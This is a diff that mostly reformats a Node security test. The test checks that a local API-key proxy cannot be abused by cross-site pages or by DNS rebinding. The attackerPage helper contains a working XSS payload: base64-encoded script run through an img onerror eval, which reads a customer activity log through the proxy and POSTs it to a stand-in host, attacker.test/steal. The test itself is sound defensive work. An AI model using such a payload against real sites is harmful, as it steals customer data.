@@ -19,7 +19,9 @@ async function server(handle) {
   const seen = [];
   const srv = http.createServer((req, res) => {
     const chunks = [];
-    req.on('data', (chunk) => { if (chunks.length < 64) chunks.push(chunk); });
+    req.on('data', (chunk) => {
+      if (chunks.length < 64) chunks.push(chunk);
+    });
     req.on('end', () => {
       const body = Buffer.concat(chunks).toString('utf8');
       seen.push({ method: req.method, url: req.url, headers: req.headers, body });
@@ -32,18 +34,33 @@ async function server(handle) {
   return {
     port: srv.address().port,
     seen,
-    close: () => new Promise((resolve) => { srv.closeAllConnections(); srv.close(resolve); }),
+    close: () =>
+      new Promise((resolve) => {
+        srv.closeAllConnections();
+        srv.close(resolve);
+      }),
   };
 }
 
 /** The fake upstream: the customer's log holds the secret. */
 function upstreamAnswer(req) {
   const activity = {
-    id: 'a1', customerId: 'cust-1001', type: 'Call', title: SECRET, description: null,
-    isSystemGenerated: false, relatedEntityId: null, relatedEntityType: null,
-    relatedEntityDisplay: null, secondaryRelatedEntityId: null, secondaryRelatedEntityType: null,
-    secondaryRelatedEntityDisplay: null, createdByName: 'Ana', createdAt: '2026-11-01T10:00:00Z',
-    updatedByName: null, updatedAt: null,
+    id: 'a1',
+    customerId: 'cust-1001',
+    type: 'Call',
+    title: SECRET,
+    description: null,
+    isSystemGenerated: false,
+    relatedEntityId: null,
+    relatedEntityType: null,
+    relatedEntityDisplay: null,
+    secondaryRelatedEntityId: null,
+    secondaryRelatedEntityType: null,
+    secondaryRelatedEntityDisplay: null,
+    createdByName: 'Ana',
+    createdAt: '2026-11-01T10:00:00Z',
+    updatedByName: null,
+    updatedAt: null,
   };
   const body = req.url.startsWith('/CustomerActivityLogs/cust-1001') ? [activity] : [];
   return [200, { 'content-type': 'application/json; charset=utf-8' }, JSON.stringify(body)];
@@ -53,8 +70,9 @@ function upstreamAnswer(req) {
 function attackerPage(proxy, attacker) {
   // Runs on the proxy's origin if the payload ever renders as HTML: read the log through the
   // proxy (which adds the key) until the real data comes, and send it home.
-  const xss = `(async()=>{for(let i=0;i<6;i++){const t=await (await fetch('/CustomerActivityLogs/cust-1001')).text();`
-    + `if(t.includes('${SECRET}')){await fetch('${attacker}/steal',{method:'POST',mode:'no-cors',body:'xss:'+t});return}}})()`;
+  const xss =
+    `(async()=>{for(let i=0;i<6;i++){const t=await (await fetch('/CustomerActivityLogs/cust-1001')).text();` +
+    `if(t.includes('${SECRET}')){await fetch('${attacker}/steal',{method:'POST',mode:'no-cors',body:'xss:'+t});return}}})()`;
   const payload = `<img src=x onerror=eval(atob('${Buffer.from(xss).toString('base64')}'))>`;
   return `<!doctype html><meta charset="utf-8"><title>cute cats</title><body><script>
 const P = ${JSON.stringify(proxy)};
@@ -127,7 +145,9 @@ async function until(check, what) {
   throw new Error(`timed out waiting for ${what}`);
 }
 
-test('a page on another site cannot use the proxy\'s key, and a rebound name reads nothing', { timeout: 90_000 }, async (t) => {
+test("a page on another site cannot use the proxy's key, and a rebound name reads nothing", {
+  timeout: 90_000,
+}, async (t) => {
   const upstream = await server(upstreamAnswer);
   t.after(() => upstream.close());
   const saved = process.env.SKIMMER_API_KEY;
@@ -143,9 +163,9 @@ test('a page on another site cannot use the proxy\'s key, and a rebound name rea
   const proxyPort = new URL(proxy.url).port;
 
   let page = '';
-  const attacker = await server((req) => (req.url === '/'
-    ? [200, { 'content-type': 'text/html; charset=utf-8' }, page]
-    : [204, {}, '']));
+  const attacker = await server((req) =>
+    req.url === '/' ? [200, { 'content-type': 'text/html; charset=utf-8' }, page] : [204, {}, ''],
+  );
   t.after(() => attacker.close());
   const home = `http://attacker.test:${attacker.port}`;
   page = attackerPage(proxy.url, home);
@@ -165,17 +185,33 @@ test('a page on another site cannot use the proxy\'s key, and a rebound name rea
   await tab.goto(`${home}/`);
   const done = await until(() => stolen().find((b) => b.startsWith('done:')), 'the attacker page to finish');
   const tries = JSON.parse(done.slice('done:'.length));
-  assert.deepEqual(Object.keys(tries).sort(), ['control read', 'direct read', 'fault header', 'form fault', 'iframe', 'img', 'no-cors fault', 'popup', 'script']);
+  assert.deepEqual(Object.keys(tries).sort(), [
+    'control read',
+    'direct read',
+    'fault header',
+    'form fault',
+    'iframe',
+    'img',
+    'no-cors fault',
+    'popup',
+    'script',
+  ]);
 
   // The rebinding page: its document comes from "the attacker", its requests go to loopback.
   const rebound = `http://rebind.test:${proxyPort}/`;
-  await context.route(rebound, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: rebindingPage(home) }));
+  await context.route(rebound, (route) =>
+    route.fulfill({ status: 200, contentType: 'text/html', body: rebindingPage(home) }),
+  );
   const rebindTab = await context.newPage();
   await rebindTab.goto(rebound);
   await until(() => stolen().includes('rebind-done'), 'the rebinding page to finish');
   await new Promise((r) => setTimeout(r, 500));
 
-  assert.deepEqual(upstream.seen.map((r) => `${r.method} ${r.url}`), [], 'the upstream saw no request the attacker caused');
+  assert.deepEqual(
+    upstream.seen.map((r) => `${r.method} ${r.url}`),
+    [],
+    'the upstream saw no request the attacker caused',
+  );
   for (const body of stolen()) {
     assert.ok(!body.includes(SECRET), `the attacker got the data: ${body.slice(0, 300)}`);
     assert.ok(!body.includes(String(upstream.port)), `the attacker learnt the upstream: ${body.slice(0, 300)}`);
